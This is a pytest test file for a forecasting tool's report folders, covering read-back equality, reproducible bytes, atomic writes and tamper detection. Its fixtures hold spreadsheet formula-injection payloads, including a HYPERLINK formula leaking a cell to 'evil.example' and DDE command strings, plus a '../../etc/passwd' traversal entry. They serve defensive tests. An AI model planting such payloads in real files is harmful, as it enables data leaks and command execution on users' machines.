"""Report folders: every format read back equal to the tables, hostile text neutralised,
reproducible bytes, and a folder that appears whole or not at all."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import math
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import jsonschema
import numpy as np
import openpyxl
import pandas as pd
import pandas.testing as pdt
import pytest
from hypothesis import given
from hypothesis import strategies as st

import forecast as fc
from forecast import report
from forecast.cli import main
from forecast.errors import ForecastError

AS_OF = "2025-04-18"
TABLES = ("branches", "paths", "marginals", "trajectory", "contributions")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "H1": '=HYPERLINK("http://evil.example/?leak="&A1, "click me")',
    "H2": "+1",
    "H3": "-cmd|' /C calc'!A0",
    "H4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H5": "\t=1+1",
    "H6": "'=already quoted",
}


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def folder_bytes(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def result(default_inputs):
    return fc.exact_update(*default_inputs, as_of=AS_OF)


@pytest.fixture(scope="module")
def folder(result, default_paths, tmp_path_factory) -> Path:
    return report.write_report(result, tmp_path_factory.mktemp("rep") / "report", inputs=default_paths, figures=False)


@pytest.fixture(scope="module")
def tables(result):
    return report.report_tables(result)


@pytest.fixture
def hostile(make_inputs):
    rows = [
        {"id": "H1", "date": "2025-01-10", "event": "a", "favours": "yes", "lr": "2", "summary": HOSTILE["H1"],
         "source": "=cmd()", "citation": "@evil"},
        {"id": "H2", "date": "2025-01-11", "event": "a", "favours": "no", "lr": "weak", "summary": HOSTILE["H2"]},
        {"id": "H3", "date": "2025-01-12", "event": "b", "given": "a=yes", "favours": "yes", "lr": "3",
         "summary": HOSTILE["H3"]},
        {"id": "H4", "date": "2025-01-13", "event": "b", "favours": "yes", "lr": "1.5", "summary": HOSTILE["H4"]},
        {"id": "H5", "date": "2025-01-14", "event": "b", "given": "a=no", "kind": "observation",
         "probability": "0.4", "prob_sd": "0.7", "summary": HOSTILE["H5"]},
        {"id": "H6", "date": "2025-01-15", "event": "a", "favours": "yes", "lr": "1.2", "summary": HOSTILE["H6"]},
    ]
    scenario, log = make_inputs(rows=rows)
    return fc.exact_update(scenario, log, as_of="2025-02-01")


# --------------------------------------------------------------------------- read back


@pytest.mark.parametrize("name", TABLES)
def test_csv_reads_back_with_pandas_equal_to_the_table(folder, tables, name):
    raw = pd.read_csv(folder / "tables" / f"{name}.csv", keep_default_na=False)
    table = tables[name]
    assert list(raw.columns) == list(table.columns)
    for column in table.columns:
        if table[column].dtype.kind == "f":
            got = pd.to_numeric(raw[column].replace("", np.nan)).to_numpy(dtype=float)
            np.testing.assert_array_equal(got, table[column].to_numpy())
        else:
            assert [str(v) for v in raw[column]] == [v.isoformat() if isinstance(v, dt.date) else str(v)
                                                    for v in table[column]]
    pdt.assert_frame_equal(report.read_table(folder, name), table)


def test_reading_lives_in_forecast_reading_and_stays_importable_from_report():
    from forecast import reading

    assert fc.read_table is reading.read_table is report.read_table
    assert report.read_tables is reading.read_tables and report.recover_report is reading.recover_report
    assert "write_report" not in vars(reading) and "read_manifest" in reading.__all__


def _sheet_frame(ws) -> pd.DataFrame:
    rows = list(ws.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


@pytest.mark.parametrize("name", TABLES)
def test_excel_reads_back_equal_to_the_table(folder, tables, name):
    wb = openpyxl.load_workbook(folder / "report.xlsx")
    assert wb.sheetnames == [*TABLES, "metadata"]
    ws = wb[name]
    sheet = _sheet_frame(ws)
    table = tables[name]
    assert list(sheet.columns) == list(table.columns)
    for column in table.columns:
        want = table[column].tolist()
        got = sheet[column].tolist()
        if table[column].dtype.kind == "f":  # openpyxl writes 16 significant digits (Excel keeps 15)
            np.testing.assert_allclose(np.array([np.nan if v is None else v for v in got], dtype=float),
                                       np.array(want, dtype=float), rtol=1e-15, atol=0)
        elif table[column].dtype.kind == "i":
            assert got == want
        elif column == "date":
            assert [v.date() for v in got] == want
        else:
            assert [report.restore(v) if isinstance(v, str) else "" for v in got] == want
    for j, column in enumerate(table.columns, start=1):
        if column in ("probability", "lower", "upper") and len(table):
            assert ws.cell(row=2, column=j).number_format == "0.0%"


def test_excel_metadata_sheet(folder, default_paths):
    wb = openpyxl.load_workbook(folder / "report.xlsx")
    meta = dict(wb["metadata"].iter_rows(min_row=2, values_only=True))
    assert meta["scenario"] == "ukraine-talks-2025"
    assert meta["as_of"] == AS_OF
    assert meta["method"] == "exact"
    assert meta["package version"] == f"scenario-forecast {fc.__version__}"
    assert meta["scenario sha256"] == sha256(default_paths[0])
    assert meta["evidence sha256"] == sha256(default_paths[1])


def test_json_is_valid_against_its_schema_and_equal_to_the_tables(folder, tables):
    data = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    schema = report.load_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(data, schema, cls=jsonschema.Draft202012Validator,
                        format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    assert data["as_of"] == AS_OF and data["method"] == "exact" and data["version"] == fc.__version__
    for name, table in tables.items():
        records = data["tables"][name]
        assert len(records) == len(table)
        for record, row in zip(records, table.to_dict(orient="records"), strict=True):
            for key, want in row.items():
                got = record[key]
                if isinstance(want, float):
                    assert (got is None and math.isnan(want)) or got == want
                elif isinstance(want, dt.date):
                    assert got == want.isoformat()
                else:
                    assert got == want


def test_schema_rejects_a_broken_report(folder):
    data = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    data["tables"]["branches"][0]["probability"] = 1.5
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(data, report.load_schema())


def test_markdown_and_latex_have_every_row(folder, tables):
    for name, table in tables.items():
        md = (folder / "tables" / f"{name}.md").read_text(encoding="utf-8").splitlines()
        assert md[0] == "| " + " | ".join(table.columns) + " |"
        assert len(md) == len(table) + 2
        tex = (folder / "tables" / f"{name}.tex").read_text(encoding="utf-8")
        assert "\\toprule" in tex and "\\midrule" in tex and "\\bottomrule" in tex
        body = tex.split("\\midrule\n", 1)[1].split("\\bottomrule", 1)[0]
        assert body.count("\\\\\n") == len(table)
    assert "russia\\_accepts=no" in (folder / "tables" / "branches.tex").read_text(encoding="utf-8")


def test_latex_escapes_specials():
    text = report.latex_escape("50% of $x_1 & {y} #2 ~ ^ \\ end\nline")
    assert text == ("50\\% of \\$x\\_1 \\& \\{y\\} \\#2 \\textasciitilde{} \\textasciicircum{} "
                    "\\textbackslash{} end line")
    table = pd.DataFrame({"summary": ["a & b"], "shift": [0.5]})
    assert "a \\& b & 0.5000 \\\\" in report.to_latex(table)


def test_manifest(folder, default_paths, result):
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["generator"] == "scenario-forecast" and manifest["version"] == fc.__version__
    assert manifest["scenario"]["id"] == "ukraine-talks-2025"
    assert manifest["scenario"]["sha256"] == sha256(default_paths[0])
    assert manifest["evidence"]["sha256"] == sha256(default_paths[1])
    assert [i["role"] for i in manifest["inputs"]] == ["scenario", "evidence"]
    assert manifest["as_of"] == AS_OF and manifest["method"] == "exact"
    assert manifest["seed"] == result.seed == manifest["settings"]["method"]["seed"]
    assert manifest["settings"]["drift_per_day"] == result.scenario.settings.drift_per_day
    dt.datetime.strptime(manifest["created"], "%Y-%m-%dT%H:%M:%SZ")
    on_disk = {name: hashlib.sha256(data).hexdigest() for name, data in folder_bytes(folder).items()
               if name != "manifest.json"}
    assert manifest["files"] == on_disk


def test_snapshot_files(folder, result):
    evidence = report.read_table(folder, "evidence")
    assert list(evidence["id"]) == list(result.evidence.as_of(AS_OF).frame["id"])
    states = report.read_table(folder, "states")
    assert len(states) == len(result.scenario.branches)
    for branch in result.scenario.branches:
        row = states.iloc[branch.index]
        prior = result.scenario.event(branch.event).priors[branch.given]
        assert row["m0"] == prior.mean[0] and row["S0"] == prior.cov[0, 0]
        assert row["m"] == result.history.mean[branch.index][-1, 0]
        assert row["S"] == result.history.cov[branch.index][-1, 0, 0]


# --------------------------------------------------------------------------- safety


def _csv_cells(path: Path):
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for row in rows[1:]:
        yield from zip(header, row, strict=True)


def test_hostile_text_never_becomes_a_formula(hostile, tmp_path):
    folder = report.write_report(hostile, tmp_path / "r", figures=False)
    numeric = {"probability", "lower", "upper", "shift", "weight", "m0", "S0", "m", "S", "lr", "lr_sd",
               "prob_sd", "n_evidence"}
    seen = set()
    for path in folder.rglob("*.csv"):
        for column, cell in _csv_cells(path):
            if cell.startswith(DANGEROUS):
                assert column in numeric, (path.name, column, cell)
                float(cell)
            seen.add(cell)
    summaries = set(hostile.evidence.frame["summary"])  # as loaded (the loader trims the tab of H5)
    assert len(summaries) == len(HOSTILE)
    for text in summaries:
        assert "'" + text in seen, text
    assert "'=cmd()" in seen and "'@evil" in seen
    wb = openpyxl.load_workbook(folder / "report.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(folder / "report.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    contributions = report.read_table(folder, "contributions")
    assert set(contributions["summary"]) == summaries
    assert set(report.read_table(folder, "evidence")["summary"]) == summaries
    data = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    assert {r["summary"] for r in data["tables"]["contributions"]} == summaries


@given(st.text(max_size=12))
def test_neutralise_is_safe_and_exactly_undone(text):
    safe = report.neutralise(text)
    assert not safe.startswith(DANGEROUS)
    assert report.restore(safe) == text


# --------------------------------------------------------------------------- the folder


def test_same_inputs_twice_are_byte_identical_apart_from_the_timestamp(write_scenario, write_evidence, tmp_path):
    rows = [
        {"id": "E1", "date": "2025-01-05", "event": "a", "favours": "yes", "lr": "2", "summary": "A is closer"},
        {"id": "E2", "date": "2025-01-20", "event": "b", "given": "a=yes", "favours": "no", "lr": "moderate",
         "reliability": "B", "credibility": "2", "summary": "B less likely if A"},
        {"id": "E3", "date": "2025-01-25", "event": "b", "kind": "observation", "probability": "0.45",
         "prob_sd": "0.6", "summary": "a market reading"},
    ]
    inputs = ["--scenario", str(write_scenario()), "--evidence", str(write_evidence(rows)), "--as-of", "2025-02-01"]
    first, second = tmp_path / "one", tmp_path / "two"
    assert main(["report", *inputs, "--out", str(first)]) == 0
    # the second run in a fresh process: nothing may depend on process state (hash seeds, caches)
    done = subprocess.run([sys.executable, "-m", "forecast.cli", "report", *inputs, "--out", str(second)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    a, b = folder_bytes(first), folder_bytes(second)
    assert a.keys() == b.keys()
    expected = {"manifest.json", "report.html", "report.json", "report.xlsx", "evidence.csv", "states.csv",
                *(f"tables/{t}.{ext}" for t in TABLES for ext in ("csv", "md", "tex")),
                *(f"figures/{f}.{ext}" for f in ("tree", "trajectories", "marginals") for ext in ("png", "svg"))}
    assert expected <= a.keys()
    assert any(name.startswith("figures/contributions/") for name in a)
    different = [name for name in a if a[name] != b[name]]
    assert different == ["manifest.json"]
    ma, mb = json.loads(a["manifest.json"]), json.loads(b["manifest.json"])
    assert ma.pop("created") != "" and mb.pop("created") != ""
    assert ma == mb


def test_inputs_are_never_changed(write_scenario, write_evidence, tmp_path):
    scenario_path = write_scenario()
    evidence_path = write_evidence([{"id": "E1", "date": "2025-01-05", "event": "a", "favours": "yes",
                                     "lr": "2", "summary": "s"}])
    before = {p: p.read_bytes() for p in (scenario_path, evidence_path)}
    out = tmp_path / "out"
    assert main(["report", "--scenario", str(scenario_path), "--evidence", str(evidence_path),
                 "--as-of", "2025-02-01", "--seed", "3", "--out", str(out)]) == 0
    assert {p: p.read_bytes() for p in before} == before
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["seed"] == 3 and manifest["as_of"] == "2025-02-01"
    assert manifest["inputs"][0]["sha256"] == hashlib.sha256(before[scenario_path]).hexdigest()
    # a folder holding an input is refused, and the input stays as it was
    assert main(["report", "--scenario", str(scenario_path), "--evidence", str(evidence_path),
                 "--out", str(tmp_path)]) == 1
    assert {p: p.read_bytes() for p in before} == before


def test_refusals(result, tmp_path, capsys):
    as_file = tmp_path / "file.txt"
    as_file.write_text("x")
    with pytest.raises(ForecastError, match="is a file"):
        report.write_report(result, as_file, figures=False)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("my notes")
    with pytest.raises(ForecastError, match="not a report folder"):
        report.write_report(result, mine, figures=False)
    assert (mine / "notes.txt").read_text() == "my notes"
    holder = tmp_path / "holder"
    holder.mkdir()
    (holder / "evidence.csv").write_bytes(Path(result.evidence.path).read_bytes())
    with pytest.raises(ForecastError, match="contains the input file"):
        report.write_report(result, holder, inputs=[result.scenario.path, holder / "evidence.csv"], figures=False)
    previous = report.write_report(result, tmp_path / "prev", figures=False)
    (previous / "my-notes.md").write_text("keep me")
    with pytest.raises(ForecastError, match="did not write"):
        report.write_report(result, previous, figures=False)
    assert (previous / "my-notes.md").read_text() == "keep me"
    empty = tmp_path / "empty"
    empty.mkdir()
    assert (report.write_report(result, empty, figures=False) / "manifest.json").is_file()


def test_an_earlier_report_is_replaced(result, default_inputs, tmp_path):
    target = tmp_path / "r"
    report.write_report(fc.exact_update(*default_inputs, as_of="2025-03-31"), target, figures=False)
    report.write_report(result, target, figures=False)
    assert json.loads((target / "manifest.json").read_text())["as_of"] == AS_OF
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r"]


def _fail_after(monkeypatch, n: int):
    real = report._write_file
    calls = {"n": 0}

    def flaky(path, data):
        calls["n"] += 1
        if calls["n"] > n:
            raise OSError(28, "No space left on device")
        real(path, data)

    monkeypatch.setattr(report, "_write_file", flaky)


def test_failure_mid_write_leaves_no_partial_folder_and_the_old_report_intact(result, default_inputs, tmp_path,
                                                                              monkeypatch):
    target = tmp_path / "r"
    report.write_report(fc.exact_update(*default_inputs, as_of="2025-03-31"), target, figures=False)
    before = folder_bytes(target)
    _fail_after(monkeypatch, 5)
    with pytest.raises(OSError, match="No space"):
        report.write_report(result, target, figures=False)
    assert folder_bytes(target) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r"]
    fresh = tmp_path / "fresh"
    with pytest.raises(OSError):
        report.write_report(result, fresh, figures=False)
    assert not fresh.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r"]


def test_failure_while_swapping_restores_the_old_report(result, default_inputs, tmp_path, monkeypatch):
    target = tmp_path / "r"
    report.write_report(fc.exact_update(*default_inputs, as_of="2025-03-31"), target, figures=False)
    before = folder_bytes(target)
    real_rename = report.os.rename
    calls = {"n": 0}

    def rename(src, dst):
        calls["n"] += 1
        if calls["n"] == 2:  # the new folder into place, after the old one was moved aside
            raise OSError("simulated crash")
        real_rename(src, dst)

    monkeypatch.setattr(report.os, "rename", rename)
    with pytest.raises(OSError, match="simulated"):
        report.write_report(result, target, figures=False)
    assert folder_bytes(target) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r"]


def test_failure_while_rendering_writes_nothing(result, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("figure failed")

    monkeypatch.setattr(report, "_figures", broken)
    with pytest.raises(RuntimeError):
        report.write_report(result, tmp_path / "r")
    assert list(tmp_path.iterdir()) == []


def test_three_outcome_event(make_inputs, tmp_path):
    data = {
        "id": "three", "title": "Three outcomes", "settings": {"start": "2025-01-01", "seed": 1},
        "events": [{"id": "who", "question": "Who wins by 2025-06-30?", "outcomes": ["a", "b", "c"],
                    "prior": {"probs": {"a": 0.5, "b": 0.3, "c": 0.2}, "sd": 0.8}}],
    }
    rows = [{"id": "E1", "date": "2025-01-05", "event": "who", "favours": "b", "lr": "3", "summary": "b gains"}]
    result = fc.exact_update(*make_inputs(data, rows), as_of="2025-02-01")
    folder = report.write_report(result, tmp_path / "r", figures=False)
    states = report.read_table(folder, "states")
    assert list(states["outcome"]) == ["a", "b"]
    pdt.assert_frame_equal(report.read_table(folder, "branches"), result.branches)


def test_excel_is_a_valid_zip_with_fixed_times(folder):
    with zipfile.ZipFile(folder / "report.xlsx") as z:
        assert {info.date_time for info in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert f"{AS_OF}T00:00:00Z" in core
    assert openpyxl.load_workbook(io.BytesIO((folder / "report.xlsx").read_bytes())).sheetnames[-1] == "metadata"


def test_a_forecast_without_exact_history(result, tmp_path):
    """An MCMC-shaped result (no history, diagnostics columns): states and contributions come from the
    exact filter, and report.json still validates."""
    diagnostics = pd.DataFrame({"event": [b.event for b in result.scenario.branches],
                                "given": [b.given_text for b in result.scenario.branches],
                                "r_hat": 1.001, "ess_bulk": 850.0})
    trajectory = result.trajectory
    mcmc = fc.McmcForecast(result.scenario, result.evidence, result.as_of, result.branch_points,
                           result.branch_intervals, result.branch_draws, result.n_evidence, result.seed,
                           diagnostics=diagnostics, fit_settings={"draws": 100, "progress": True},
                           trajectory_source=lambda: trajectory)
    folder = report.write_report(mcmc, tmp_path / "r", figures=False)
    data = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    jsonschema.validate(data, report.load_schema())
    assert data["method"] == "mcmc" and data["tables"]["branches"][0]["r_hat"] == 1.001
    pdt.assert_frame_equal(report.read_table(folder, "contributions"), report.report_tables(result)["contributions"])
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["method"] == "mcmc" and "progress" not in manifest["settings"]["method"]


def test_the_working_folder_is_refused(result, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ForecastError, match="current folder"):
        report.write_report(result, ".", figures=False)
    with pytest.raises(ForecastError, match="current folder"):
        report.write_report(result, tmp_path.parent, figures=False)
    assert list(tmp_path.iterdir()) == []
    assert (report.write_report(result, "sub", figures=False) / "manifest.json").is_file()


def test_a_resolved_event_reports_at_every_as_of_date(default_inputs, tmp_path):
    """Issue 8: a resolved marginal summed to 0.9999999999999993, below its lower bound, and
    plot_marginals got a negative error bar. Every interval contains its point; resolved
    outcomes are exactly 1 and 0."""
    from forecast import plots

    scenario, evidence = default_inputs
    scenario = scenario.with_resolution("russia_accepts", "no", "2025-03-20").with_resolution(
        "us_exits", "yes", "2025-04-17")
    start = scenario.settings.start
    last = evidence.frame["date"].max().date()
    for day in pd.date_range(start, last, freq="D"):
        result = fc.exact_update(scenario, evidence, as_of=day.date())
        for view in ("branches", "paths", "marginals", "trajectory"):
            table = result.table(view)
            assert (table["lower"] <= table["probability"]).all() and (table["probability"] <= table["upper"]).all()
        marginals = result.marginals.set_index(["event", "outcome"])
        if day.date() >= dt.date(2025, 3, 20):
            assert marginals.loc[("russia_accepts", "no"), "probability"] == 1.0
            assert marginals.loc[("russia_accepts", "yes"), "upper"] == 0.0
        plots.plot_marginals(result)  # no negative error bars
    folder = report.write_report(result, tmp_path / "r")
    assert (folder / "figures" / "marginals.png").exists() or any(folder.rglob("marginals*"))


# --------------------------------------------------------------------------- issue 9: verified on reading


def _copy(folder: Path, tmp_path: Path, name: str = "copy") -> Path:
    import shutil

    return Path(shutil.copytree(folder, tmp_path / name))


def _rehash(folder: Path) -> None:
    """Re-write the manifest's hashes to match the files (a tamperer who covers their tracks)."""
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"] = {name: sha256(folder / name) for name in manifest["files"]}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")


def test_a_changed_file_is_refused_naming_it(folder, tmp_path):
    """Issue 9, item 4: after editing tables/branches.csv, diff showed the edited numbers without a word."""
    copy = _copy(folder, tmp_path)
    path = copy / "tables" / "branches.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("0.", "0.9", 1), encoding="utf-8")
    with pytest.raises(fc.InputError) as info:
        report.read_table(copy, "branches")
    assert str(info.value) == (f"{copy}/tables/branches.csv:1: sha256: differs from its SHA-256 in manifest.json: "
                               "the file changed after the report was written (--no-verify, or verify=False, reads "
                               "it anyway)")
    for name in ("states", "evidence"):  # any table of a tampered folder: every file is checked
        with pytest.raises(fc.InputError, match="tables/branches.csv"):
            report.read_table(copy, name)
    with pytest.warns(report.ReportWarning, match=r"without verification.*1 file\(s\) differ.*tables/branches.csv"):
        table = report.read_table(copy, "branches", verify=False)
    assert table["probability"].iloc[0] > 0.9


@pytest.mark.parametrize("change", ["missing", "extra listed", "outside", "not a hash", "files not an object",
                                    "no files"])
def test_a_tampered_manifest_is_refused(folder, tmp_path, change):
    copy = _copy(folder, tmp_path)
    manifest = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
    if change == "missing":
        (copy / "states.csv").unlink()
        words = f"{copy}/states.csv:1: file: listed in manifest.json but missing"
    elif change == "extra listed":
        manifest["files"]["tables/secret.csv"] = "0" * 64
        words = f"{copy}/tables/secret.csv:1: file: listed in manifest.json but missing"
    elif change == "outside":
        manifest["files"]["../../etc/passwd"] = "0" * 64
        words = "'../../etc/passwd' is not a file name inside the report folder"
    elif change == "not a hash":
        manifest["files"]["states.csv"] = "abc"
        words = "states.csv: 'abc' is not a SHA-256"
    elif change == "files not an object":
        manifest["files"] = 5
        words = "files: expected an object of file name -> SHA-256, found int"
    else:
        del manifest["files"]
        words = "files: missing: the manifest lists no file hashes"
    (copy / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    with pytest.raises(fc.InputError) as info:
        report.read_table(copy, "branches")
    assert words in str(info.value)
    assert str(info.value).startswith(str(copy))


CORRUPT = {
    # (file, edit, expected start of the message)
    "bad date": ("tables/contributions.csv", lambda t: t.replace("2025-03-", "2025-13-", 1),
                 "tables/contributions.csv:{line}: date: '2025-13-"),
    "bad number": ("states.csv", lambda t: t.replace(",", ",abc,", 4).replace(",abc,", ",", 3),
                   "states.csv:2: "),
    "renamed header": ("tables/branches.csv", lambda t: t.replace("probability", "prob", 1),
                       "tables/branches.csv:1: header: no column 'probability'"),
    "empty states": ("states.csv", lambda t: "", "states.csv:1: file: is empty"),
    "header only states": ("states.csv", lambda t: t.splitlines()[0] + "\n", "states.csv:2: file: has no rows"),
    "short row": ("tables/paths.csv", lambda t: t.rstrip("\n").rsplit(",", 2)[0] + "\n",
                  "tables/paths.csv:{last}: file: the row has 2 fields, fewer than"),
    "not utf-8": ("evidence.csv", lambda t: t + "\udcff", "evidence.csv:{lastplus}: file: not UTF-8"),
    "duplicate entry": ("evidence.csv", lambda t: t + t.splitlines()[1] + "\n", "evidence.csv:{lastplus}: id: "),
}


@pytest.mark.parametrize("case", sorted(CORRUPT))
@pytest.mark.parametrize("covered", [False, True], ids=["no-verify", "rehashed"])
def test_corrupt_report_files_end_in_a_located_message(folder, tmp_path, capsys, case, covered):
    """Issue 9, item 4: a corrupt report file (read with --no-verify, or with the manifest's hashes re-made
    to match) ends in PATH:LINE: column: message, never an internal error."""
    from forecast.cli import main as cli_main

    copy = _copy(folder, tmp_path)
    name, edit, expected = CORRUPT[case]
    path = copy / name
    text = path.read_text(encoding="utf-8")
    new = edit(text)
    path.write_bytes(new.encode("utf-8", "surrogateescape"))
    if covered:
        _rehash(copy)
    lines = text.count("\n")
    expected = expected.format(line=1 + next(i for i, row in enumerate(text.splitlines()) if "2025-03-" in row)
                               if "{line}" in expected else 0, last=lines, lastplus=lines + 1)
    capsys.readouterr()
    status = cli_main(["diff", str(folder), str(copy), *([] if covered else ["--no-verify"])])
    err = capsys.readouterr().err
    assert status == 1, err
    assert "internal error" not in err and "Traceback" not in err
    located = [line for line in err.splitlines() if not line.startswith("forecast: warning:")]
    assert located and located[0].startswith(f"{copy}/{expected}"), err
    if not covered:
        assert f"forecast: warning: {copy}: read without verification (--no-verify)" in err


def test_diff_refuses_a_tampered_report_and_no_verify_reads_it_with_a_warning(folder, tmp_path, capsys):
    from forecast.cli import main as cli_main

    copy = _copy(folder, tmp_path)
    path = copy / "tables" / "branches.csv"
    rows = path.read_text(encoding="utf-8").splitlines()
    cells = rows[1].split(",")
    cells[3] = "0.99"
    rows[1] = ",".join(cells)
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    capsys.readouterr()
    assert cli_main(["diff", str(folder), str(copy)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"{copy}/tables/branches.csv:1: sha256: differs from its SHA-256 in manifest.json"), err
    assert cli_main(["diff", str(folder), str(copy), "--no-verify"]) == 0
    captured = capsys.readouterr()
    assert captured.err.splitlines() == [
        f"forecast: warning: {folder}: read without verification (--no-verify); its files match manifest.json",
        f"forecast: warning: {copy}: read without verification (--no-verify): 1 file(s) differ from manifest.json "
        "or are missing: tables/branches.csv"]
    assert "99.00%" in captured.out


# --------------------------------------------------------------------------- issue 9: --out at a symlink


def test_out_at_a_symlink_to_a_report_replaces_the_target(result, default_inputs, tmp_path):
    """Issue 9, item 8: the link became a folder and a `.link.XXXX.old` symlink was left behind."""
    real = tmp_path / "real"
    report.write_report(fc.exact_update(*default_inputs, as_of="2025-03-31"), real, figures=False)
    link = tmp_path / "link"
    link.symlink_to("real")
    assert report.write_report(result, link, figures=False) == link
    assert link.is_symlink() and os.readlink(link) == "real"
    assert json.loads((real / "manifest.json").read_text())["as_of"] == AS_OF
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link", "real"]


@pytest.mark.parametrize("kind", ["empty folder", "missing target", "missing folder under a link"])
def test_out_at_a_symlink_to_nothing_yet_is_followed(result, tmp_path, kind):
    """Issue 9, item 8: a symlink to an empty or missing folder ended in internal error (NotADirectoryError)."""
    if kind == "empty folder":
        (tmp_path / "real").mkdir()
    link = tmp_path / "link"
    if kind == "missing folder under a link":
        (tmp_path / "base").mkdir()
        (tmp_path / "to-base").symlink_to("base")
        out, real = tmp_path / "to-base" / "real", tmp_path / "base" / "real"
    else:
        link.symlink_to("real")
        out, real = link, tmp_path / "real"
    report.write_report(result, out, figures=False)
    assert (real / "manifest.json").is_file() and not real.is_symlink()
    report.read_table(out, "branches")
    assert not any(p.name.startswith(".") for p in tmp_path.rglob("*"))


def test_out_at_a_symlink_to_a_file_or_a_loop_is_refused(result, tmp_path, capsys):
    from forecast.cli import main as cli_main

    (tmp_path / "file.txt").write_text("x")
    (tmp_path / "to-file").symlink_to("file.txt")
    with pytest.raises(ForecastError, match=r"to-file: --out \(a symlink to .*file.txt\): is a file"):
        report.write_report(result, tmp_path / "to-file", figures=False)
    (tmp_path / "loop1").symlink_to("loop2")
    (tmp_path / "loop2").symlink_to("loop1")
    capsys.readouterr()
    assert cli_main(["report", "--out", str(tmp_path / "loop1")]) == 1
    err = capsys.readouterr().err
    assert "symlink loop" in err and "internal error" not in err
    assert (tmp_path / "file.txt").read_text() == "x"


# --------------------------------------------------------------------------- issue 9: the swap window


def _interrupted_swap(result, default_inputs, tmp_path, complete: bool) -> tuple[Path, Path, Path]:
    """The state a kill between the two renames of a swap leaves: no report at r, only .r.*.old and .r.*.partial."""
    target = tmp_path / "r"
    report.write_report(fc.exact_update(*default_inputs, as_of="2025-03-31"), target, figures=False)
    staging = report.write_report(result, tmp_path / "new", figures=False)
    if not complete:
        (staging / "tables" / "paths.csv").write_text("half")  # killed mid-write: not what the manifest says
    old, partial = tmp_path / ".r.0123abcd.old", tmp_path / ".r.4567cdef.partial"
    os.rename(target, old)
    os.rename(staging, partial)
    return target, old, partial


@pytest.mark.parametrize("complete", [False, True], ids=["new-incomplete", "new-complete"])
@pytest.mark.parametrize("by", ["report", "diff", "read_table"])
def test_an_interrupted_swap_is_recovered(result, default_inputs, tmp_path, capsys, complete, by):
    """Issue 9, item 9: a kill between the two renames left no report, and nothing recovered it. The next
    report, diff or read restores the earlier report (or, if the new one is whole, puts it in place),
    removes the leftovers and says so in one line."""
    from forecast.cli import main as cli_main

    target, old, partial = _interrupted_swap(result, default_inputs, tmp_path, complete)
    expected_as_of = AS_OF if complete else "2025-03-31"
    capsys.readouterr()
    if by == "report":
        assert cli_main(["report", "--as-of", "2025-04-01", "--out", str(target)]) == 0
        expected_as_of = "2025-04-01"
    elif by == "diff":
        assert cli_main(["diff", str(target), str(target)]) == 0
    else:
        with pytest.warns(report.ReportWarning, match="recovered"):
            report.read_table(target, "branches")
    err = capsys.readouterr().err
    notes = [line for line in err.splitlines() if "recovered" in line]
    if by != "read_table":
        assert len(notes) == 1, err
        what = "finished an interrupted replacement" if complete else "restored the earlier report (.r.0123abcd.old)"
        assert notes[0].startswith(f"forecast: warning: {target}: recovered from an interrupted report write: ")
        assert what in notes[0] and "removed" in notes[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r"]
    assert json.loads((target / "manifest.json").read_text())["as_of"] == expected_as_of
    report.read_table(target, "contributions")  # whole: every file matches the manifest


def test_leftovers_beside_a_whole_report_are_removed_and_others_kept(result, tmp_path, capsys):
    target = report.write_report(result, tmp_path / "r", figures=False)
    stale = [tmp_path / ".r.00000000.partial", tmp_path / ".r.11111111.old"]
    for path in stale:
        path.mkdir()
        (path / "x").write_text("x")
    (tmp_path / ".r.22222222.old").symlink_to("r")  # what an earlier version left for a symlinked --out
    kept = [tmp_path / ".r.notours.partial", tmp_path / ".other.33333333.old"]
    for path in kept:
        path.mkdir()
    with pytest.warns(report.ReportWarning, match="recovered from an interrupted report write"):
        assert report.recover_report(target) == [
            "removed what interrupted writes left: .r.00000000.partial, .r.11111111.old, .r.22222222.old"]
